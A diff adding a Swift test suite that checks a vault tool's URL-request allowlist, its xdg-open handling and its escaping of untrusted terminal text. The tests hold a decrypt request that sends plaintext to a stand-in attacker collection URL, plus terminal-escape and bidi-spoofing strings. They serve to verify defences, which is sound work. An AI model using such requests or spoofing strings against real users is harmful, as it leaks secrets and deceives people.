@@ -1,0 +1,108 @@
+import Foundation
+import Testing
+import VaultCore
+import VaultTestSupport
+
+/// Issue 14, finding 3: the allowlist is keyed on where results go, never on the caller's
+/// claimed `x-source`; a plaintext reaches a web origin only when that origin is allowed;
+/// a plaintext never sits on xdg-open's command line; untrusted text is shown escaped.
+@Suite struct URLDestinationTests {
+    typealias Setup = URLRequestTests.Setup
+
+    static func encrypted(_ s: Setup, _ text: String) throws -> String {
+        let result = try s.url(URLRequestTests.request("encrypt", [("plaintext", text), ("key", "family"), ("x-success", "a://ok")]))
+        return try #require(try URLRequestTests.results(result.stdout.trimmingCharacters(in: .newlines))["encryptedData"], "\(result.stderr)")
+    }
+
+    @Test func aPlaintextReachesAWebOriginOnlyWhenThatOriginIsAllowed() throws {
+        let s = try Setup(allow: false)
+        try s.alice.ok("settings", "url-allow", "a:")
+        let data = try Self.encrypted(s, "the wifi password")
+        // A page names itself after a program the user allowed; that name opens nothing.
+        try s.alice.ok("settings", "url-allow", "tester")
+        let steal = URLRequestTests.request("decrypt", [("encryptedData", data), ("x-source", "tester"),
+                                                       ("x-success", "https://attacker.example/collect"), ("x-error", "a://failed")])
+        let before = s.alice.vault.keystoreBytes()
+        let refused = try s.url(steal)
+        #expect(refused.status == 1 && refused.stdout.hasPrefix("a://failed?errorCode=9&"), "\(refused.stdout)\(refused.stderr)")
+        #expect(!refused.stdout.contains("wifi"))
+        #expect(refused.stderr.contains("https://attacker.example, which is not on the allowlist"), "\(refused.stderr)")
+        #expect(s.alice.vault.keystoreBytes() == before)
+
+        // On a terminal too: no prompt is shown at all, so one careless "y" cannot post it.
+        let session = try s.alice.vault.interactive("url", steal)
+        let onTerminal = session.finish()
+        #expect(onTerminal.status == 1 && !session.transcript.contains("[y/N]"), "\(session.transcript)")
+
+        // Another origin's permission does not carry over; the exact origin's does.
+        try s.alice.ok("settings", "url-allow", "https://other.example")
+        #expect(try s.url(steal).status == 1)
+        try s.alice.ok("settings", "url-allow", "https://attacker.example/any/path")
+        #expect(try s.alice.ok("settings").contains("https://attacker.example,"))
+        let allowed = try s.url(steal)
+        #expect(allowed.status == 0 && allowed.stdout.hasPrefix("https://attacker.example/collect?plaintext=the%20wifi"), "\(allowed.stderr)")
+        // A different port is a different origin.
+        let port = steal.replacingOccurrences(of: "attacker.example%2Fcollect", with: "attacker.example%3A8443%2Fcollect")
+        #expect(try s.url(port).status == 1)
+    }
+
+    @Test func withoutATerminalTheDestinationDecides() throws {
+        let s = try Setup(allow: false)
+        try s.alice.ok("settings", "url-allow", "a:")
+        let data = try Self.encrypted(s, "x")
+        // Results to standard output need '-' allowed; to another scheme, that scheme.
+        let bare = URLRequestTests.request("decrypt", [("encryptedData", data), ("x-source", "a")])
+        #expect(try s.url(bare).stderr.contains("destination - is not on the allowlist"))
+        try s.alice.ok("settings", "url-allow", "-")
+        #expect(try s.url(bare).status == 0)
+        let other = URLRequestTests.request("decrypt", [("encryptedData", data), ("x-success", "b://ok")])
+        #expect(try s.url(other).status == 1)
+        // Destinations are checked when allowed, too.
+        #expect(try s.alice.fails(["settings", "url-allow", "https://"]).contains("invalid destination 'https://'"))
+    }
+
+    @Test func neverPutsAPlaintextOnXdgOpensCommandLine() throws {
+        let s = try Setup()
+        let data = try Self.encrypted(s, "plaintext on argv")
+        // A stand-in xdg-open records its arguments.
+        let bin = TemporaryDirectory("vault-xdg")
+        let log = bin.file("argv")
+        try "#!/bin/sh\nprintf '%s\\n' \"$@\" >> \(log)\n".write(toFile: bin.file("xdg-open"), atomically: true, encoding: .utf8)
+        chmod(bin.file("xdg-open"), 0o755)
+        var environment = s.alice.vault.childEnvironment
+        environment["PATH"] = bin.path + ":" + (environment["PATH"] ?? "/usr/bin:/bin")
+        environment["DISPLAY"] = ":99"
+        let hidden = (try? String(contentsOfFile: "/proc/self/mountinfo", encoding: .utf8))?.contains("hidepid=") ?? false
+
+        let decrypt = URLRequestTests.request("decrypt", [("encryptedData", data), ("x-success", "a://ok")])
+        let opened = try ProcessRunner.run(VaultBinary.path, ["url", "--open", "-"], stdin: Array(decrypt.utf8), environment: environment)
+        #expect(opened.status == 0, "\(opened.stderr)")
+        let argv = (try? String(contentsOfFile: log, encoding: .utf8)) ?? ""
+        if hidden {
+            #expect(argv.contains("plaintext=plaintext%20on%20argv"))
+        } else {
+            #expect(!argv.contains("plaintext"), "\(argv)")
+            #expect(opened.stderr.contains("other users can read in /proc") && opened.stdout.hasPrefix("a://ok?plaintext=plaintext%20on%20argv"))
+        }
+        // A ciphertext is no secret: an encrypt result is opened as before.
+        let encrypt = URLRequestTests.request("encrypt", [("plaintext", "y"), ("key", "family"), ("x-success", "a://ok")])
+        let sent = try ProcessRunner.run(VaultBinary.path, ["url", "--open", "-"], stdin: Array(encrypt.utf8), environment: environment)
+        #expect(sent.status == 0 && sent.stdout.isEmpty, "\(sent.stdout)\(sent.stderr)")
+        #expect(((try? String(contentsOfFile: log, encoding: .utf8)) ?? "").contains("a://ok?encryptedData="))
+    }
+
+    @Test func showsUntrustedTextEscaped() throws {
+        let s = try Setup(allow: false)
+        let hostile = "editor\u{1B}[2J\rAllowed by policy\u{202E}txt.exe"
+        let request = URLRequestTests.request("encrypt", [("plaintext", "hi"), ("key", "family"), ("x-source", hostile),
+                                                          ("description", "new\u{1B}]0;title\u{7}"), ("x-success", "a://ok")])
+        let session = try s.alice.vault.interactive("url", request)
+        try session.expect("[y/N] ")
+        session.send("n")
+        let result = session.finish()
+        let shown = result.stderr + session.transcript
+        #expect(!shown.contains("\u{1B}") && !shown.contains("\r") && !shown.contains("\u{202E}"), "\(shown.debugDescription)")
+        #expect(shown.contains("editor\\u{1B}[2J\\rAllowed by policy\\u{202E}txt.exe"), "\(shown)")
+        #expect(TerminalText.escaped("a\u{2066}b\u{200B}c\u{2028}") == "a\\u{2066}b\\u{200B}c\\u{2028}")
+    }
+}
